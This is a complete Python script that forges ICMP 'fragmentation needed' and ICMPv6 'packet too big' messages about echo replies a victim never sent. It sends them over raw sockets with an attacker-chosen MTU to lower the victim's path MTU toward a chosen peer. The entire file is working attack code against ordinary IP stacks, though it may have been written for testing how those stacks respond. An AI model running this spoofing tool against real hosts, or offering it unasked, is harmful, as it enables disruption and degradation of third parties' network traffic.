#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-2.0
"""Send one forged packet.

usage: spoof.py too-big PEER VICTIM MTU

too-big: ICMP to VICTIM, "fragmentation needed" or "packet too big", about an echo reply that VICTIM never sent to
PEER. No secret of a connection is needed for that.
"""

import ipaddress
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def echo_packet(kind):
    body = struct.pack(">BBHHH", kind, 0, 0, 1, 1) + bytes(8)
    return body[:2] + struct.pack(">H", checksum(body)) + body[4:]


def too_big(peer, victim, mtu):
    peer, victim = ipaddress.ip_address(peer), ipaddress.ip_address(victim)
    if victim.version == 4:
        echo = echo_packet(0)
        inner = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(echo), 1, 0x4000, 64, 1, 0, victim.packed, peer.packed)
        inner = inner[:10] + struct.pack(">H", checksum(inner)) + inner[12:] + echo
        icmp = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + inner
        icmp = icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]
        family, proto = socket.AF_INET, socket.IPPROTO_ICMP
    else:
        echo = echo_packet(129)
        inner = struct.pack(">IHBB16s16s", 6 << 28, len(echo), 58, 64, victim.packed, peer.packed) + echo
        # The kernel fills in the checksum.
        icmp = struct.pack(">BBHI", 2, 0, 0, mtu) + inner
        family, proto = socket.AF_INET6, socket.IPPROTO_ICMPV6
    with socket.socket(family, socket.SOCK_RAW, proto) as raw:
        raw.sendto(icmp, (str(victim), 0))


def main():
    command, *arguments = sys.argv[1:]
    if command != "too-big":
        sys.exit(__doc__)
    too_big(arguments[0], arguments[1], int(arguments[2]))


main()
